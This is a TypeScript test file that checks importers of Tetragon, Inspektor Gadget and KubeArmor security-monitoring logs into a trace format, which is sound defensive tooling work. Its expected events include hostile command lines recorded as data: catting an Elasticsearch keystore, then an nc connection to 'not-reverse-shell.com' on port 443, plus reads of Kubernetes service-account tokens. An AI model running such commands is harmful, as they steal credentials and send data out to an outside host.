// The importers on real output of Tetragon, Inspektor Gadget and KubeArmor, as published in their repositories
// (test/fixtures/importers/README.md names each source and commit).
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describe, it } from 'node:test';
import { parseTrace, serializeTrace, TraceParseError, type Trace } from '../../../src/trace/format.ts';
import type { ImportOptions } from '../../../src/trace/importers/common.ts';
import { importInspektorGadget } from '../../../src/trace/importers/inspektor-gadget.ts';
import { importKubeArmor } from '../../../src/trace/importers/kubearmor.ts';
import { importTetragon } from '../../../src/trace/importers/tetragon.ts';

const fixture = (name: string): string => readFileSync(new URL(`../../fixtures/importers/${name}`, import.meta.url), 'utf8');
type Importer = (text: string, opts?: ImportOptions) => Trace;
const FIELDS = ['kind', 'pid', 'ppid', 'exe', 'parent_exe', 'argv', 'path', 'flags', 'result', 'error', 'proto', 'saddr', 'sport', 'daddr', 'dport', 'pod', 'container'] as const;
const pick = (t: Trace): unknown[] =>
  t.events.map((e) => Object.fromEntries(FIELDS.filter((k) => e[k] !== undefined).map((k) => [k, e[k]])));

interface Case {
  file: string;
  importer: Importer;
  host: string | null;
  events: unknown[];
}

const cases: Case[] = [
  {
    file: 'tetragon-events.jsonl',
    importer: importTetragon,
    host: 'my-node',
    events: [
      { kind: 'exec', pid: 68790, ppid: 68598, exe: '/usr/bin/netserver', parent_exe: '/usr/bin/containerd-shim-runc-v2', argv: ['/usr/bin/netserver', '-D'], result: 0, pod: 'tiefighter', container: 'spaceship' },
      { kind: 'exec', pid: 68862, ppid: 68635, exe: '/starwars-docker', parent_exe: '/usr/bin/containerd-shim-runc-v2', argv: ['/starwars-docker', '--port', '80', '--host', '0.0.0.0'], result: 0, pod: 'deathstar-6f87496b94-qdlh8', container: 'deathstar' },
      { kind: 'exec', pid: 68920, ppid: 68578, exe: '/starwars-docker', parent_exe: '/usr/bin/containerd-shim-runc-v2', argv: ['/starwars-docker', '--port', '80', '--host', '0.0.0.0'], result: 0, pod: 'deathstar-6f87496b94-gjf74', container: 'deathstar' },
    ],
  },
  {
    // The __x64_sys_read kprobe reads a file already open: the trace format has no kind for it.
    file: 'tetragon-lifecycle.jsonl',
    importer: importTetragon,
    host: 'minikube',
    events: [
      { kind: 'exec', pid: 38313, ppid: 38312, exe: '/usr/bin/cat', parent_exe: '/usr/bin/sh', argv: ['/usr/bin/cat', '/usr/share/elasticsearch/config/elasticsearch.keystore'], result: 0, pod: 'elasticsearch-56f8fc6988-65smb', container: 'elasticsearch' },
      { kind: 'exit', pid: 38313, ppid: 38312, exe: '/usr/bin/cat', result: 0, pod: 'elasticsearch-56f8fc6988-65smb', container: 'elasticsearch' },
      { kind: 'exec', pid: 38314, ppid: 38312, exe: '/usr/bin/nc', parent_exe: '/usr/bin/sh', argv: ['/usr/bin/nc', 'raiz3gjkgtfhkkc.not-reverse-shell.com', '443'], result: 0, pod: 'elasticsearch-56f8fc6988-65smb', container: 'elasticsearch' },
      { kind: 'exit', pid: 38314, ppid: 38312, exe: '/usr/bin/nc', result: 0, pod: 'elasticsearch-56f8fc6988-65smb', container: 'elasticsearch' },
    ],
  },
  {
    // The built-in and the image-based gadget on the same failed open: the same event both ways.
    file: 'inspektor-gadget-trace-open.jsonl',
    importer: importInspektorGadget,
    host: null,
    events: [
      { kind: 'open', pid: 39733, path: '/tmp/foo', flags: ['read'], result: -2, error: 'ENOENT', container: 'determined_kapitsa' },
      { kind: 'open', pid: 39733, ppid: 37591, path: '/tmp/foo', flags: ['read'], result: -2, error: 'ENOENT', container: 'determined_kapitsa' },
    ],
  },
  {
    // "<>" is the built-in gadgets' "no pod": no pod, namespace or container.
    file: 'inspektor-gadget-trace-tcp.jsonl',
    importer: importInspektorGadget,
    host: 'minikube',
    events: [{ kind: 'connect', pid: 16734, proto: 'tcp', saddr: '172.17.0.3', sport: 35186, daddr: '188.114.97.3', dport: 443 }],
  },
  {
    // Of the nine: unlink, socket() and setuid/setgid have no kind in the trace format.
    file: 'kubearmor-logs.jsonl',
    importer: importKubeArmor,
    host: 'aks-agentpool-16128849-vmss000000',
    events: [
      { kind: 'exec', pid: 2514068, ppid: 2514065, exe: '/bin/sh', parent_exe: '/usr/bin/runc', argv: ['/bin/sh', '-ec', 'vault', 'status', '-tls-skip-verify'], result: 0, pod: 'vault-0', container: 'vault' },
      { kind: 'open', pid: 967872, ppid: 967496, exe: '/knoxAutoPolicy', parent_exe: '/usr/bin/containerd-shim-runc-v2', path: '/var/run/secrets/kubernetes.io/serviceaccount/token', flags: ['read'], result: 0, pod: 'discovery-engine-6f5c4df7b4-q8zbc', container: 'discovery-engine' },
      { kind: 'connect', pid: 1394554, ppid: 1394403, exe: '/home/pea/main', parent_exe: '/usr/bin/containerd-shim-runc-v2', result: 0, daddr: '10.0.0.10', dport: 53, pod: 'policy-enforcement-agent-7946b64dfb-f4lgv', container: 'policy-enforcement-agent' },
      { kind: 'exec', pid: 495877, ppid: 495804, exe: '/usr/bin/apt', parent_exe: '/bin/bash', argv: ['/usr/bin/apt'], result: -13, error: 'EACCES', pod: 'wordpress-787f45786f-2q9wf', container: 'wordpress' },
      { kind: 'exec', pid: 1787227, ppid: 1979, exe: '/bin/sleep', parent_exe: '/bin/bash', argv: ['/usr/bin/sleep', '10'], result: -13, error: 'EACCES' },
    ],
  },
  {
    file: 'kubearmor-logs-pretty.json',
    importer: importKubeArmor,
    host: 'ip-172-31-24-142',
    events: [
      { kind: 'exec', pid: 3488357, ppid: 3488352, exe: '/bin/sh', parent_exe: '/x86_64-bottlerocket-linux-gnu/sys-root/usr/bin/runc', argv: ['/bin/sh', '-c', 'cat', '/run/secrets/kubernetes.io/serviceaccount/token'], result: 0, pod: 'nginx-8f458dc5b-fl42t', container: 'nginx' },
      { kind: 'exec', pid: 3488363, ppid: 3488357, exe: '/bin/cat', parent_exe: '/bin/dash', argv: ['/bin/cat', '/run/secrets/kubernetes.io/serviceaccount/token'], result: 0, pod: 'nginx-8f458dc5b-fl42t', container: 'nginx' },
    ],
  },
];

describe('importers on real tool output', () => {
  for (const c of cases) {
    describe(c.file, () => {
      const text = fixture(c.file);
      const t = c.importer(text, { strict: true });
      it('maps every event', () => assert.deepEqual(pick(t), c.events));
      it('names the source and host; nothing malformed', () => {
        assert.equal(t.header.host, c.host);
        assert.equal(t.header.target.mode, 'import');
        assert.equal(t.footer.malformed, 0);
      });
      it('is a valid katabot trace', () => assert.deepEqual(parseTrace(serializeTrace(t)), JSON.parse(JSON.stringify(t))));
      it('a malformed line is skipped and counted, or fails with --strict', () => {
        const broken = `${text.trimEnd()}\n{"truncated": \n`;
        const lenient = c.importer(broken);
        assert.equal(lenient.footer.malformed, 1);
        assert.deepEqual(pick(lenient), c.events);
        assert.throws(() => c.importer(broken, { strict: true }), TraceParseError);
      });
    });
  }

  it('Tetragon: time offsets are nanoseconds from the earliest event', () => {
    const t = importTetragon(fixture('tetragon-lifecycle.jsonl'));
    assert.deepEqual(t.events.map((e) => e.ts), [0, 1_000_000, 1_000_000, 1_315_000_000]);
  });
});
